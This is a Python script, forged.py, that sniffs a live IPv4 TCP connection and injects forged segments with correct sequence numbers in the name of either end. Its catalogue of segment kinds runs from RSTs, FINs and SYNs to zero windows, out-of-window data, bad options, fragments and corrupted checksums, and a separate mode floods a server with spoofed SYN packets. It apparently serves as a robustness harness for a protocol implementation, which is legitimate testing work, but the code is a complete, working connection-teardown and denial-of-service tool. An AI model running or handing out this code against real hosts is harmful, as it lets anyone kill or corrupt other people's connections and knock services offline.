#!/usr/bin/env python3
"""A stranger on the way who sees the segments of one TCP connection (IPv4) and sends others in the name of its ends.

forged.py INTERFACE SERVER PORT KIND [--count N]

Sends N times, in the name of each end, a segment of the kind, with the numbers that the connection has at that moment.
Prints how many. `flood` sends N SYNs, some thousand a second, from addresses of nobody's instead."""

import argparse
import os
import random
import socket
import struct
import sys
import time

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
OUTGOING = 4  # PACKET_OUTGOING


class Segment:
    """One that was seen, or, changed, one that is to be sent."""

    def __init__(self, packet):
        ip = (packet[0] & 15) * 4
        tcp = packet[ip:]
        self.src, self.dst = packet[12:16], packet[16:20]
        self.sport, self.dport, self.seq, self.ack, offset, self.flags, self.window = struct.unpack(">HHIIBBH", tcp[:16])
        self.options = tcp[20 : offset // 16 * 4]
        self.payload = packet[ip + offset // 16 * 4 : struct.unpack(">H", packet[2:4])[0]]
        self.ip_options = b""
        self.fragment = 0
        self.spoil = 0

    def following(self):
        """Without data, what the same end would send next."""
        self.seq = (self.seq + len(self.payload)) % 2**32
        self.payload = b""
        self.flags = ACK
        return self

    def packet(self):
        length = 20 + len(self.options)
        tcp = struct.pack(">HHIIBBHHH", self.sport, self.dport, self.seq % 2**32, self.ack % 2**32, length // 4 << 4,
                          self.flags, self.window, 0, 0) + self.options + self.payload
        pseudo = self.src + self.dst + struct.pack(">HH", socket.IPPROTO_TCP, len(tcp))
        tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp) ^ self.spoil) + tcp[18:]
        header = struct.pack(">BBHHHBBH", 0x45 + len(self.ip_options) // 4, 0, 0, random.randrange(1, 2**16),
                             self.fragment, 64, socket.IPPROTO_TCP, 0)
        return header + self.src + self.dst + self.ip_options + tcp


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total > 0xFFFF:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def change(**values):
    def apply(segment):
        for key, value in values.items():
            setattr(segment, key, value(segment) if callable(value) else value)

    return apply


def datagram(length, size):
    """As data: a length, and noise of another, which begins as sealed data does."""
    return lambda _: struct.pack(">HB", length, 4) + os.urandom(size - 1)


KINDS = {
    "rst": change(flags=RST),
    "rst-ack": change(flags=RST | ACK),
    "rst-elsewhere": change(flags=RST, seq=lambda s: s.seq + 2**30),
    "fin": change(flags=FIN | ACK),
    "syn": change(flags=SYN),
    "syn-ack": change(flags=SYN | ACK),
    "no-flags": change(flags=0),
    "ack-of-nothing": change(ack=lambda s: s.ack + 100000),
    "zero-window": change(window=0),
    "ahead": change(seq=lambda s: s.seq + 60000),
    "far-ahead": change(seq=lambda s: s.seq + 2**30),
    "noise": change(payload=datagram(100, 100), flags=PSH | ACK),
    "repeated": change(seq=lambda s: s.seq - 40000, payload=datagram(100, 100)),
    "huge": change(payload=datagram(0xFFFF, 200)),
    "empty": change(payload=datagram(0, 200)),
    "cut": change(payload=datagram(9000, 200)),
    "one-byte": change(payload=b"\x05"),
    "bad-options": change(options=b"\x08\x00\x08\xff"),
    "ip-options": change(ip_options=b"\x01\x01\x01\x00", payload=datagram(100, 100)),
    "fragment": change(fragment=0x2000, payload=lambda s: os.urandom(104 - 20 - len(s.options))),
    "checksum": change(spoil=0x5555, payload=datagram(100, 100)),
    "no-connection": change(payload=datagram(100, 100), sport=lambda s: s.sport ^ 1, dport=lambda s: s.dport),
}


def watch(sniffer, server, port):
    """The last segments that have come by, of each end; with data, for those tell where it stands."""
    seen = {}
    deadline = time.monotonic() + 10
    while len(seen) < 2:
        if time.monotonic() > deadline:
            sys.exit("no segments of a connection")
        packet, address = sniffer.recvfrom(65536)
        if len(packet) < 40 or packet[9] != socket.IPPROTO_TCP or packet[0] >> 4 != 4:
            continue
        segment = Segment(packet)
        for name, ip, number in (("server", segment.src, segment.sport), ("client", segment.dst, segment.dport)):
            if ip == server and number == port and segment.payload and not segment.flags & SYN:
                seen[name] = segment
    return seen.values()


def flood(out, server, port, count):
    for i in range(count):
        if i % 100 == 0:
            time.sleep(0.02)
        syn = struct.pack(">HHIIBBHHH", random.randrange(1024, 2**16), port, random.getrandbits(32), 0, 0x50, SYN, 65535,
                          0, 0)
        source = socket.inet_aton("10.9.%d.%d" % (random.randrange(256), random.randrange(1, 255)))
        pseudo = source + server + struct.pack(">HH", socket.IPPROTO_TCP, len(syn))
        syn = syn[:16] + struct.pack(">H", checksum(pseudo + syn)) + syn[18:]
        header = struct.pack(">BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0)
        out.sendto(header + source + server + syn, (socket.inet_ntoa(server), 0))
    print(count)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("interface")
    parser.add_argument("server", type=socket.inet_aton)
    parser.add_argument("port", type=int)
    parser.add_argument("kind", choices=[*KINDS, "flood", "list"])
    parser.add_argument("--count", type=int, default=5)
    args = parser.parse_args()
    if args.kind == "list":
        print(" ".join(KINDS))
        return
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    if args.kind == "flood":
        flood(out, args.server, args.port, args.count)
        return
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    sniffer.bind((args.interface, 0))
    sent = 0
    for _ in range(args.count):
        while True:  # what has waited is old
            try:
                sniffer.recv(65536, socket.MSG_DONTWAIT)
            except BlockingIOError:
                break
        for segment in watch(sniffer, args.server, args.port):
            KINDS[args.kind](segment.following())
            out.sendto(segment.packet(), (socket.inet_ntoa(segment.dst), 0))
            sent += 1
    print(sent)


main()
